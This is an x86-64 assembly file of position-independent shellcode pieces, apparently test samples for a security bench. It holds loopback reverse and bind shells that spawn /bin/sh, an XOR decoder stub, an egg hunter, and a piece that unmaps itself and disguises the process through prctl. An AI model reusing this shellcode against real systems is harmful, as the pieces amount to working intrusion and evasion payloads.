/* SPDX-License-Identifier: GPL-3.0-or-later
 * SPDX-FileCopyrightText: bulwark.servers contributors
 */
/* Position-independent code for x86-64, each piece in a section of its own that the bench takes out as plain bytes.
 *
 * What runs only waits, or reaches loopback. Numbers are those of syscalls(2) on x86-64.
 */

.intel_syntax noprefix

/* Wait for a signal, for ever. */
.section .code.wait, "ax"
1:      push    34                      /* pause */
        pop     rax
        syscall
        jmp     1b

/* Sleep for 1000 s again and again, and find its own data by calling over it. */
.section .code.sleep, "ax"
1:      jmp     3f
2:      pop     rdi
        xor     esi, esi
        push    35                      /* nanosleep */
        pop     rax
        syscall
        jmp     1b
3:      call    2b
        .quad   1000, 0

/* Connect to 127.0.0.1:4660, make the connection the standard streams, and run a shell on it. */
.section .code.reverse, "ax"
        push    41                      /* socket */
        pop     rax
        push    2
        pop     rdi
        push    1
        pop     rsi
        cdq
        syscall
        xchg    rdi, rax
        mov     rcx, 0x0100007f34120002
        push    rcx
        mov     rsi, rsp
        push    16
        pop     rdx
        push    42                      /* connect */
        pop     rax
        syscall
        push    3
        pop     rsi
1:      dec     esi
        push    33                      /* dup2 */
        pop     rax
        syscall
        jnz     1b
        push    59                      /* execve */
        pop     rax
        cdq
        mov     rbx, 0x68732f2f6e69622f
        push    rdx
        push    rbx
        mov     rdi, rsp
        push    rdx
        push    rdi
        mov     rsi, rsp
        syscall

/* Listen on 127.0.0.1:4660, and run a shell on the first connection. */
.section .code.bind, "ax"
        push    41                      /* socket */
        pop     rax
        push    2
        pop     rdi
        push    1
        pop     rsi
        cdq
        syscall
        xchg    rdi, rax
        mov     rcx, 0x0100007f34120002
        push    rcx
        mov     rsi, rsp
        push    16
        pop     rdx
        push    49                      /* bind */
        pop     rax
        syscall
        push    1
        pop     rsi
        push    50                      /* listen */
        pop     rax
        syscall
        xor     esi, esi
        cdq
        push    43                      /* accept */
        pop     rax
        syscall
        xchg    rdi, rax
        push    3
        pop     rsi
1:      dec     esi
        push    33                      /* dup2 */
        pop     rax
        syscall
        jnz     1b
        push    59                      /* execve */
        pop     rax
        cdq
        mov     rbx, 0x68732f2f6e69622f
        push    rdx
        push    rbx
        mov     rdi, rsp
        push    rdx
        push    rdi
        mov     rsi, rsp
        syscall

/* Undo the exclusive or of what follows, of which the bench writes key and length into the two marked places. */
.section .code.decoder, "ax"
        jmp     3f
1:      pop     rsi
        push    rsi
        push    0x11                    /* the length */
        pop     rcx
2:      xor     byte ptr [rsi], 0x22    /* the key */
        inc     rsi
        loop    2b
        ret
3:      call    1b

/* Look through all memory, without a fault where there is none, for a mark that comes twice, and jump behind it. */
.section .code.hunter, "ax"
        lea     rdi, [rip]
1:      or      di, 0xfff
2:      inc     rdi
        push    rdi
        push    21                      /* access */
        pop     rax
        xor     esi, esi
        lea     rdi, [rdi + 8]
        syscall
        pop     rdi
        cmp     al, 0xf2                /* EFAULT */
        je      1b
        mov     eax, 0x6b72616d
        scasd
        jne     3f
        scasd
        jne     4f
        jmp     rdi
4:      sub     rdi, 4
3:      sub     rdi, 4
        jmp     2b

/* What the hunter looks for. */
.section .code.egg, "ax"
        .ascii  "markmark"
1:      push    34                      /* pause */
        pop     rax
        syscall
        jmp     1b

/* Take away the memory from rdi on, rsi bytes of it, and pass for the program of the prctl_mm_map that rdx points to. */
.section .code.leave, "ax"
        push    rdx
        push    11                      /* munmap */
        pop     rax
        syscall
        pop     rdx
        push    35                      /* PR_SET_MM */
        pop     rdi
        push    14                      /* PR_SET_MM_MAP */
        pop     rsi
        push    104
        pop     r10
        xor     r8d, r8d
        mov     eax, 157                /* prctl */
        syscall
1:      push    34                      /* pause */
        pop     rax
        syscall
        jmp     1b
